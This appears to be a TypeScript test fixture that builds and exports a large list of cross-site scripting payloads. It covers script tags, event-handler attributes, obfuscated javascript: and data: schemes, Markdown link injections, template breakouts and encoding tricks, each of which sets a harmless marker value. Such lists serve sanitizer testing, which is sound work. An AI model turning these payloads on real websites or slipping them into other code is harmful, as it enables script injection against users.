/** Ways in which a text could run something: tags, attributes, encodings, schemes, Markdown, templates, breaks out of any of them. */
const call = 'window.hacked=1';

const tags = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'body',
  'input',
  'details',
  'marquee',
  'math',
  'style',
  'link',
  'base',
  'form',
  'textarea',
  'template',
  'noscript',
  'xmp',
  'x',
];
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:',
  'file:///',
  'blob:',
  'view-source:javascript:',
];

const elements = tags.flatMap((tag) => [
  `<${tag}>${call}</${tag}>`,
  `<${tag} src=x onerror=${call}>`,
  `<${tag}/onload=${call}//`,
  `"><${tag} autofocus onfocus=${call} tabindex=1>`,
  `</textarea></title><${tag} onpointerenter=${call}>`,
]);
const attributes = handlers.flatMap((handler) => [
  `" ${handler}="${call}" x="`,
  `' ${handler}='${call}`,
  `<img src=x ${handler.toUpperCase()}=${call}>`,
  `<a href="https://a.example" ${handler}=${call}>x</a>`,
]);
const links = schemes.flatMap((scheme) => [
  `[press](${scheme}${call})`,
  `[press](<${scheme}${call}>)`,
  `![x](${scheme}${call})`,
  `<${scheme}${call}>`,
  `[x]: ${scheme}${call}\n\n[x]`,
  `${scheme}//%0a${call}`,
  `<a href="${scheme}${call}">x</a>`,
]);
const breaks = [
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `\`\`\`</code></pre><script>${call}</script>\`\`\``,
  `\`<img src=x onerror=${call}>\``,
  `**<svg onload=${call}>**`,
  `> <img src=x onerror=${call}>`,
  `- <script>${call}</script>`,
  `# <style>@import '${call}'</style>`,
  `[a](https://a.example/"onclick="${call})`,
  `[a](https://a.example' onclick='${call})`,
  `https://a.example/"onclick="${call}`,
  `https://a.example/<script>${call}</script>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `\u202e<script>${call}</script>`,
  `<?lit$0$?><img src=x onerror=${call}>`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `<scr\u200bipt>${call}</scr\u200bipt>`,
];

export const xssPayloads: readonly string[] = [...elements, ...attributes, ...links, ...breaks];
